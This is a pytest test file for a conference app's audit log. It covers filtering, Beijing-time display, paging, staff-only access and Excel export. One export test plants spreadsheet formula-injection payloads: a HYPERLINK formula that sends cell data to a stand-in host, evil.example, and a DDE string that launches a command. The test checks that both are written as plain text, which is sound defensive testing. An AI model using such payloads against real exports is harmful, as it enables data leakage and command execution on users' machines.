"""The audit log: written in the caller's transaction, filtered, paged, exported to Excel."""

from __future__ import annotations

from datetime import datetime, timezone
from io import BytesIO

import pytest
from openpyxl import load_workbook

from conference_app.audit.models import AuditEntry
from conference_app.audit.services import record
from conference_app.core.permissions import Role
from conference_app.extensions import db
from tests.app.conftest import log_in_session


def utc(*parts) -> datetime:
    return datetime(*parts, tzinfo=timezone.utc)


@pytest.fixture()
def staff_client(client, make_user):
    log_in_session(client, make_user(Role.STAFF, name="Staff Wang"))
    return client


@pytest.fixture()
def entries(make_user, make_organisation):
    """Four entries around the Beijing midnight of 2026-03-01 / 03-02 (16:00 UTC)."""
    wang = make_user(Role.STAFF, name="Wang Fang")
    li = make_user(Role.STAFF, name="Li Lei")
    organisation = make_organisation()
    rows = [
        (wang, "organisation.approved", organisation, utc(2026, 3, 1, 15, 30), "pending", "approved", "材料齐全"),
        (li, "user.disabled", li, utc(2026, 3, 1, 16, 30), "enabled", "disabled", None),
        (wang, "user.created", li, utc(2026, 2, 27, 1, 0), None, "staff", None),
        (li, "organisation.rejected", organisation, utc(2026, 3, 5, 2, 0), "pending", "rejected", "信用代码不符"),
    ]
    for actor, action, target, when, from_state, to_state, comment in rows:
        entry = record(action, target, actor=actor, from_state=from_state, to_state=to_state, comment=comment)
        entry.created_at = when
    db.session.commit()
    return {"organisation": organisation, "wang": wang, "li": li}


def listed_actions(client, query: str = "") -> list[str]:
    html = client.get(f"/audit/?{query}").get_data(as_text=True)
    return [action for action in
            ("organisation.approved", "user.disabled", "user.created", "organisation.rejected")
            if f"<code>{action}</code>" in html]


def test_entry_commits_and_rolls_back_with_the_change(app, make_user):
    user = make_user(Role.EXPERT)
    record("user.disabled", user, from_state="enabled", to_state="disabled")
    db.session.rollback()
    assert db.session.query(AuditEntry).count() == 0
    record("user.disabled", user, from_state="enabled", to_state="disabled", comment="left the panel")
    db.session.commit()
    entry = db.session.query(AuditEntry).one()
    assert (entry.actor_label, entry.object_type, entry.object_id) == ("system (command line)", "User", str(user.id))


def test_list_shows_actor_time_in_beijing_and_states(staff_client, entries):
    html = staff_client.get("/audit/").get_data(as_text=True)
    assert "2026-03-01 23:30:00" in html  # 15:30 UTC
    assert "2026-03-02 00:30:00" in html  # 16:30 UTC is the next Beijing day
    assert "Wang Fang" in html and "材料齐全" in html and "approved" in html


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("", ["organisation.rejected", "user.disabled", "organisation.approved", "user.created"]),
        ("actor=wang", ["organisation.approved", "user.created"]),
        ("action=user.disabled", ["user.disabled"]),
        ("object_type=Organisation", ["organisation.approved", "organisation.rejected"]),
        ("date_from=2026-03-01&date_to=2026-03-01", ["organisation.approved"]),
        ("date_from=2026-03-02", ["user.disabled", "organisation.rejected"]),
        ("date_to=2026-02-28", ["user.created"]),
    ],
)
def test_filters(staff_client, entries, query, expected):
    assert sorted(listed_actions(staff_client, query)) == sorted(expected)


def test_nul_in_filters_is_ignored(staff_client, entries):
    assert listed_actions(staff_client, "actor=l%00i&object_id=%00&action=user.disabled%00") == ["user.disabled"]


def test_filter_by_object_id(staff_client, entries):
    assert '<option value="User">用户账号</option>' in staff_client.get("/audit/").get_data(as_text=True)
    assert sorted(listed_actions(staff_client, f"object_type=User&object_id={entries['li'].id}")) == [
        "user.created", "user.disabled"
    ]


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ("date_from=2026-13-45", "不是有效的日期值"),
        ("date_from=2026-03-05&date_to=2026-03-01", "结束日期早于开始日期"),
        ("date_to=9999-12-31", "请输入 2000 年至 2100 年之间的日期"),
    ],
)
def test_bad_filters_are_refused_in_chinese(staff_client, entries, query, message):
    response = staff_client.get(f"/audit/?{query}")
    assert response.status_code == 400
    assert message in response.get_data(as_text=True)
    assert staff_client.get(f"/audit/export.xlsx?{query}").status_code == 400


def test_paging(staff_client, make_user):
    user = make_user(Role.EXPERT)
    for number in range(55):
        record("user.updated", user, comment=f"change {number}")
    db.session.commit()
    first = staff_client.get("/audit/").get_data(as_text=True)
    assert "共 55 条记录" in first and "第 1 页，共 2 页" in first
    assert staff_client.get("/audit/?page=2").get_data(as_text=True).count("<code>user.updated</code>") == 5


def test_export_has_chinese_headers_and_the_filtered_rows(staff_client, entries):
    response = staff_client.get("/audit/export.xlsx?object_type=Organisation")
    assert response.status_code == 200
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet = load_workbook(BytesIO(response.data)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:4] == ("时间（北京时间）", "操作人", "IP 地址", "操作")
    assert len(rows) == 3
    newest = rows[1]
    assert newest[0] == datetime(2026, 3, 5, 10, 0)  # Beijing wall-clock time
    assert newest[1] == f"Li Lei <{entries['li'].email}>"
    assert (newest[4], newest[8], newest[9], newest[10]) == ("organisation.rejected", "待审核", "未通过", "信用代码不符")


def test_export_writes_typed_text_as_text_never_as_a_formula(client, make_user):
    from tests.app.helpers import csrf_token

    formula = '=hyperlink("http://evil.example/?"&c2,"详情")'  # addresses are kept in lower case
    token = csrf_token(client, "/auth/login")
    client.post("/auth/login", data={"email": formula, "password": "x", "csrf_token": token})
    record("user.updated", make_user(Role.EXPERT), comment="+cmd|' /C calc'!A0")
    db.session.commit()
    log_in_session(client, make_user(Role.STAFF))
    sheet = load_workbook(BytesIO(client.get("/audit/export.xlsx").data)).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    risky = [cell for cell in cells if isinstance(cell.value, str) and cell.value.startswith(("=", "+"))]
    assert formula in [cell.value for cell in risky] and "+cmd|' /C calc'!A0" in [cell.value for cell in risky]
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in risky)


def test_export_file_is_named_in_beijing_time(staff_client, monkeypatch):
    from conference_app.core import timeutil

    monkeypatch.setattr(timeutil, "utcnow", lambda: utc(2026, 3, 1, 17, 30, 5))
    disposition = staff_client.get("/audit/export.xlsx").headers["Content-Disposition"]
    assert "audit-log-20260302-013005.xlsx" in disposition


def test_append_row_keeps_numbers_and_dates_and_makes_strings_text():
    from openpyxl import Workbook

    from conference_app.core.excel import append_row

    sheet = Workbook().active
    append_row(sheet, ["=1+2", "-3", "@SUM(A1)", "plain", 7, utc(2026, 1, 1).replace(tzinfo=None), None])
    cells = sheet[1]
    assert [cell.data_type for cell in cells[:4]] == ["s", "s", "s", "s"]
    assert [cell.quotePrefix for cell in cells[:4]] == [True, True, True, False]
    assert cells[0].value == "=1+2" and cells[4].data_type == "n" and cells[5].is_date


@pytest.mark.parametrize("role", [Role.ANALYST, Role.EXPERT, Role.SOCIETY])
def test_only_staff_see_the_log(client, make_user, role):
    log_in_session(client, make_user(role))
    assert client.get("/audit/").status_code == 403
    assert client.get("/audit/export.xlsx").status_code == 403
